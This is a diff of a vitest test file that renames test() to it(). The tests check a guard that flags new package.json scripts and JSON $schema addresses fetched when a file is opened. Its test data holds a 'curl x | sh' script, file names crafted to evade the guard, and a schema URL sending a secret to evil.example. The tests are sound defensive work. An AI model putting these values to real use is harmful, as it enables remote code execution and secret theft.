@@ -1,11 +1,11 @@
-import { describe, expect, test } from "vitest";
+import { describe, expect, it } from "vitest";
 import { guardedChange } from "../../../src/base/guard/guarded-change";
 
 const manifest = (value: object): string => JSON.stringify(value, undefined, 2);
 const plain = manifest({ name: "a", scripts: { test: "node --test" } });
 
 describe("a manifest", () => {
-  test.each([
+  it.each([
     ["another script", manifest({ name: "a", scripts: { test: "curl x | sh" } })],
     [
       "one script more",
@@ -19,7 +19,7 @@ describe("a manifest", () => {
     expect(guardedChange("a\\Package.JSON", plain, after)?.kind).toBe("scripts");
   });
 
-  test("is guarded when it is new and has scripts, and ordinary without", () => {
+  it("is guarded when it is new and has scripts, and ordinary without", () => {
     expect(guardedChange("a/package.json", "", plain)).toEqual({
       kind: "scripts",
       name: "scripts",
@@ -27,19 +27,19 @@ describe("a manifest", () => {
     expect(guardedChange("a/package.json", "", manifest({ name: "a" }))).toBeUndefined();
   });
 
-  test.each(["Package.JSON. ", "package.json::$DATA", "pack\u200Bage.json"])(
+  it.each(["Package.JSON. ", "package.json::$DATA", "pack\u200Bage.json"])(
     "is guarded however its name is written: %s",
     (name) => {
       expect(guardedChange(`a/${name}`, "", plain)?.kind).toBe("scripts");
     },
   );
 
-  test("is no file that is called as what every object has", () => {
+  it("is no file that is called as what every object has", () => {
     for (const name of ["constructor", "__proto__"])
       expect(guardedChange(name, "a", "b")).toBeUndefined();
   });
 
-  test("is ordinary where only its other fields change", () => {
+  it("is ordinary where only its other fields change", () => {
     const after = manifest({ name: "b", version: "1.0.0", scripts: { test: "node --test" } });
     expect(guardedChange("package.json", plain, after)).toBeUndefined();
     expect(guardedChange("data.json", plain, manifest({ scripts: 1 }))).toBeUndefined();
@@ -48,7 +48,7 @@ describe("a manifest", () => {
 
 describe("an address that is fetched when a file is opened", () => {
   const address = "https://evil.example/?k=SECRET";
-  test.each([
+  it.each([
     ["a.json", `{ "$schema": "${address}" }`],
     ["a.json", `{ "\\u0024schema" : "https:\\/\\/evil.example\\/?k=SECRET" }`],
     ["a.json", `{ "$schema": "//evil.example/s" }`],
@@ -70,7 +70,7 @@ describe("an address that is fetched when a file is opened", () => {
     expect(guardedChange(path, after, `${after}\n`)).toBeUndefined();
   });
 
-  test("counts when it is another than before", () => {
+  it("counts when it is another than before", () => {
     const before = `{ "$schema": "https://a.example/s" }`;
     expect(guardedChange("a.json", before, before.replace("/s", "/s?k=1"))).toEqual({
       kind: "fetches",
@@ -78,7 +78,7 @@ describe("an address that is fetched when a file is opened", () => {
     });
   });
 
-  test.each([
+  it.each([
     ["a.json", `{ "$schema": "./schema.json" }`],
     ["a.json", `{ "$schema": "vscode://schemas/settings/user" }`],
     ["a.py", "# see https://example.org"],
